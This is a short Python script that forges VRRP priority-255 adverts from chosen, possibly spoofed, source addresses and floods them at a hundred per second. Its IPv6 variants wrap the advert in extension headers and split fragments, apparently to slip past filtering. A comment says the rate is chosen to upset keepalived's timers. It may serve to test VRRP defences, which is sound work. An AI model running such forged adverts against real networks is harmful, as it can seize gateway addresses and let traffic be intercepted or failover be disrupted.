#!/usr/bin/python3
"""
forge-adverts.py SECONDS VRID {ADDRESS SOURCE DESTINATION}...: sends VRRP adverts (RFC 9568) of priority 255 for each
ADDRESS from SOURCE, which may be another host's, to DESTINATION, a hundred a second. IPv6 adverts are sent plain,
behind an extension header, and in fragments that part their headers. They leave with TTL or hop limit 255.
"""

import ipaddress
import socket
import struct
import sys
import time

VRRP = 112
TTL = 255
# Far shorter than the interval of the nodes' adverts: keepalived counts that anew for every advert that it refuses.
PERIOD = 0.01
CENTISECONDS = 20
FRAGMENT = 44
DESTINATION_OPTIONS = 60

Address = ipaddress.IPv4Address | ipaddress.IPv6Address


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def options(following: int) -> bytes:
    """An extension header with six bytes of padding."""
    return struct.pack("!BBBB4x", following, 0, 1, 4)


def fragment(number: int, offset: int, more: bool, part: bytes) -> tuple[int, bytes]:
    return FRAGMENT, struct.pack("!BBHI", DESTINATION_OPTIONS, 0, offset | more, number) + part


def adverts(vrid: int, address: Address, source: Address, destination: Address, number: int) -> list[bytes]:
    """Whole packets, with their IP headers."""
    start = struct.pack("!BBBBH", 0x31, vrid, 255, 1, CENTISECONDS)
    length = len(start) + 2 + len(address.packed)
    pseudo = source.packed + destination.packed
    pseudo += struct.pack("!BBH", 0, VRRP, length) if source.version == 4 else struct.pack("!IxxxB", length, VRRP)
    total = checksum(pseudo + start + b"\0\0" + address.packed)
    payload = start + struct.pack("!H", total) + address.packed
    if source.version == 4:
        header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 0, 0, TTL, VRRP, 0)
        return [header + source.packed + destination.packed + payload]
    hidden = options(DESTINATION_OPTIONS) + options(VRRP) + payload
    return [
        struct.pack("!IHBB", 6 << 28, len(body), first, TTL) + source.packed + destination.packed + body
        for first, body in (
            (VRRP, payload),
            (DESTINATION_OPTIONS, options(VRRP) + payload),
            fragment(number, 0, True, hidden[:8]),
            fragment(number, 8, False, hidden[8:]),
        )
    ]


def main(words: list[str]) -> None:
    seconds, vrid = float(words[0]), int(words[1])
    given = [ipaddress.ip_address(word) for word in words[2:]]
    wanted: list[tuple[Address, Address, Address]] = []
    while given:
        address, source, destination, *given = given
        wanted.append((address, source, destination))
    senders = {
        4: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
        6: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW),
    }
    # For destinations that are valid on a link only.
    device = socket.if_nametoindex("eth0")
    end = time.monotonic() + seconds
    number = 0
    while time.monotonic() < end:
        number += 1
        for address, source, destination in wanted:
            where = (str(destination), 0) if destination.version == 4 else (str(destination), 0, 0, device)
            for packet in adverts(vrid, address, source, destination, number):
                senders[destination.version].sendto(packet, where)
        time.sleep(PERIOD)


main(sys.argv[1:])
